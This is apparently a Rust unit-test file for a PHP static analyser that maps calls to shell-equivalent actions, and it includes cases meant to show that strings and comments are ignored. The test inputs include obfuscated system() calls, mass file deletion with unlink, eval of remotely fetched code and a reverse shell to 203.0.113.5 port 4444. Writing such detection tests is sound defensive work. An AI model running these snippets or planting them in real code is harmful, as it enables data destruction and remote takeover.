use super::*;

const PHP: Language = Language::Php;

#[test]
fn shell_text_is_found_in_every_form() {
    for code in [
        "system('reboot');",
        "echo shell_exec(\"reboot\");",
        "exec('reboot', $out);",
        "passthru('reboot');",
        "popen('reboot', 'r');",
        "proc_open('reboot', [], $p);",
        "echo `reboot`;",
        "\\system('reboot');",
        "SYSTEM('reboot');",
        "$c = 'boot'; system(\"re$c\");",
        "$c = 'boot'; system(\"re{$c}\");",
        "$c = 'boot'; system('re' . $c);",
        "$f = 'system'; $f('reboot');",
        "<?php system('reboot'); ?>",
        "system(base64_decode('cmVib290'));",
        "system(strrev('toober'));",
        "@system('reboot');",
        "call_user_func('system', 'reboot');",
    ] {
        assert_eq!(does(PHP, code), ["shell: reboot"], "{code}");
    }
}

#[test]
fn calls_are_found() {
    all(
        PHP,
        &[
            (
                "array_map('unlink', array_filter(glob('*')));",
                &["call: rm -- {*}"],
            ),
            ("unlink(__DIR__ . '/x');", &["call: rm -- <__DIR__>/x"]),
            (
                "array_map(\"unlink\", glob(\"uploads/*\"));",
                &["call: rm -- {uploads/*}"],
            ),
            (
                "array_map('unlink', ['a', 'b']);",
                &["call: rm -- a", "call: rm -- b"],
            ),
            (
                "foreach (glob('*.db') as $f) unlink($f);",
                &["call: rm -- {*.db}"],
            ),
            (
                "unlink('f'); rmdir('d');",
                &["call: rm -- f", "call: rmdir -- d"],
            ),
            (
                "file_put_contents('/etc/hosts', 'x');",
                &["call: tee -- /etc/hosts"],
            ),
            (
                "file_put_contents('f', 'x', FILE_APPEND);",
                &["call: tee -a -- f"],
            ),
            ("fopen('f', 'w');", &["call: tee -- f"]),
            ("echo file_get_contents('f');", &["call: cat -- f"]),
            (
                "rename('a', 'b'); chmod('f', 0777);",
                &["call: mv -- a b", "call: chmod -- 777 f"],
            ),
            ("unlink(getenv('HOME') . '/x');", &["call: rm -- <HOME>/x"]),
            (
                "unlink($_SERVER['HOME'] . '/x');",
                &["call: rm -- <HOME>/x"],
            ),
            ("eval('echo 1;');", &["code: echo 1;"]),
            (
                "eval(file_get_contents('http://h/i'));",
                &["code: <fetched>", "call: curl -- http://h/i"],
            ),
            ("include 'http://h/i';", &["code: <fetched>"]),
            (
                "copy('http://h/i', 'f');",
                &["call: curl -o f -- http://h/i"],
            ),
            (
                "$s=fsockopen(\"203.0.113.5\",4444);exec(\"/bin/sh -i <&3 >&3 2>&3\");",
                &[
                    "shell: /bin/sh -i <&3 >&3 2>&3",
                    "reverse: nc -e /bin/sh 203.0.113.5 4444",
                ],
            ),
        ],
    );
}

#[test]
fn words_that_are_no_calls_do_nothing() {
    nothing(
        PHP,
        &[
            "echo \"system('reboot')\";",
            "// system('reboot')\necho 1;",
            "# system('reboot')",
            "/* system('reboot') */",
            "$db->exec('DROP TABLE x');",
            "$obj->system('reboot');",
            "curl::exec('x');",
            "echo <<<EOT\nsystem('reboot')\nEOT;\n",
            "echo 'a `reboot` b';",
            "Foo?>system('reboot')<?php echo 1;",
        ],
    );
}
